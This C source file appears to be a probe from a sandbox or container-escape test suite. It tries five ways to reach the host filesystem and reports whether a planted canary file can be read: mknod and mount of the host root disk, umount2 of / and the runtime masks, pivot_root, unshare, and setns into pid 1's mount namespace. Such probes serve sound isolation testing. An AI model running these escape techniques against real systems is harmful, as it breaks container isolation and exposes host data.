/* Reach the host's mount namespace or filesystem with namespace calls:
 *   mount       mknod the host's root block device (HOST_ROOT_DEV=major:minor) and mount it
 *   umount      detach / and the runtime's masks, then look for the canary at its host path
 *   pivot_root  pivot to a new root and look through the old one
 *   unshare     a new user and mount namespace (capabilities there), then the mount attack
 *   setns       join the canary process's (or pid 1's) mount namespace */
#include "attack.h"
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>

static void mount_host_disk(const char *how)
{
    unsigned major_nr, minor_nr;
    if (sscanf(need_env("HOST_ROOT_DEV"), "%u:%u", &major_nr, &minor_nr) != 2)
        return;
    mkdir("/tmp", 01777);
    unlink("/tmp/psb-disk");
    if (mknod("/tmp/psb-disk", S_IFBLK | 0600, makedev(major_nr, minor_nr)) < 0)
        blocked("%s: mknod: %s", how, strerror(errno));
    mkdir("/tmp/psb-mnt", 0755);
    const char *types[] = {"ext4", "xfs", "btrfs", NULL};
    for (int i = 0; types[i]; i++) {
        if (mount("/tmp/psb-disk", "/tmp/psb-mnt", types[i], 0, NULL) == 0) {
            evidence("%s: mounted the host's disk (%s)", how, types[i]);
            char path[4096];
            snprintf(path, sizeof(path), "/tmp/psb-mnt%s", canary_path());
            try_canary(path, how);
            umount2("/tmp/psb-mnt", MNT_DETACH);
            return;
        }
    }
    blocked("%s: mount of the host disk: %s", how, strerror(errno));
}

static void umount_attack(void)
{
    const char *targets[] = {"/", "/proc", "/sys", "/dev", NULL};
    for (int i = 0; targets[i]; i++) {
        if (umount2(targets[i], MNT_DETACH) == 0)
            say("info", "umount2(%s) returned 0", targets[i]);
        else
            blocked("umount2(%s): %s", targets[i], strerror(errno));
    }
    chdir("/");
    try_canary(canary_path(), "after umount");
}

static void pivot_root_attack(void)
{
    mkdir("/tmp", 01777);
    mkdir("/tmp/psb-newroot", 0755);
    if (mount("/", "/tmp/psb-newroot", NULL, MS_BIND | MS_REC, NULL) < 0)
        blocked("bind mount /: %s", strerror(errno));
    mkdir("/tmp/psb-newroot/psb-old", 0755);
    if (syscall(SYS_pivot_root, "/tmp/psb-newroot", "/tmp/psb-newroot/psb-old") < 0) {
        blocked("pivot_root: %s", strerror(errno));
        return;
    }
    say("info", "pivot_root returned 0");
    chdir("/");
    char path[4096];
    snprintf(path, sizeof(path), "/psb-old%s", canary_path());
    try_canary(path, "pivot_root old root");
}

static void unshare_attack(void)
{
    if (unshare(CLONE_NEWNS) < 0 && unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        blocked("unshare: %s", strerror(errno));
        return;
    }
    say("info", "unshare returned 0");
    mount_host_disk("unshare + mount");
}

static void setns_attack(void)
{
    char path[64];
    int pids[] = {canary_pid(), 1};
    for (int i = 0; i < 2; i++) {
        snprintf(path, sizeof(path), "/proc/%d/ns/mnt", pids[i]);
        int fd = open(path, O_RDONLY);
        if (fd < 0) {
            blocked("open %s: %s", path, strerror(errno));
            continue;
        }
        if (setns(fd, CLONE_NEWNS) < 0) {
            blocked("setns(%s): %s", path, strerror(errno));
            continue;
        }
        say("info", "setns(%s) returned 0", path);
        chdir("/");
        try_canary(canary_path(), "setns into another mount namespace");
        return;
    }
}

int main(int argc, char **argv)
{
    const char *how = argc > 1 ? argv[1] : "";
    if (!strcmp(how, "mount"))
        mount_host_disk("mount");
    else if (!strcmp(how, "umount"))
        umount_attack();
    else if (!strcmp(how, "pivot_root"))
        pivot_root_attack();
    else if (!strcmp(how, "unshare"))
        unshare_attack();
    else if (!strcmp(how, "setns"))
        setns_attack();
    else
        return 2;
    return 0;
}
